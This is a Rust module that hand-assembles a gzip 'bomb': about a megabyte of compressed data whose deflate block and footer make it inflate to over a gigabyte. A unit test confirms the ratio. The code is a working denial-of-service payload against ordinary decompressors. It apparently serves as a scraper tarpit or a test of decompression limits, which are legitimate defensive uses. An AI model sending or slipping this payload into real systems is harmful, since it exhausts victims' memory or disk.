//! A small gzip body that grows to a gigabyte.

/// The header of gzip, and the beginning of one deflate block (RFC 1951, section 3.2.7) in which "258 bytes" and "from
/// one byte before" are one bit each, a zero; then one literal zero byte to copy.
const OPENING: [u8; 24] = [
    0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0xff, 0xed, 0xc0, 0x81, 0x00, 0x00, 0x00,
    0x00, 0x80, 0xa0, 0xfd, 0xa9, 0x17, 0xa9, 0x00,
];
/// So many zero bytes follow, four copies of 258 bytes in each.
const COPIES: usize = 1 << 20;
/// The end of the block, the checksum, and the length of [`INFLATED`].
const CLOSING: [u8; 9] = [0x06, 0x0b, 0x01, 0x40, 0x36, 0x09, 0x04, 0x80, 0x40];
/// How long it becomes: the literal, and a copy for every two of the zero bits between the codes and the end.
#[cfg(test)]
const INFLATED: u32 = 1 + 258 * (4 * (COPIES as u32) + 4);

/// Returns the body.
pub(super) fn gzip_bomb() -> Vec<u8> {
    let mut body = OPENING.to_vec();
    body.resize(OPENING.len() + COPIES, 0);
    body.extend_from_slice(&CLOSING);
    body
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_megabyte_claims_to_be_a_gigabyte() {
        let body = gzip_bomb();
        assert!(body.starts_with(&[0x1f, 0x8b]) && body.len() < 1_100_000);
        assert!(body.ends_with(&INFLATED.to_le_bytes()) && INFLATED > 1 << 30);
    }
}
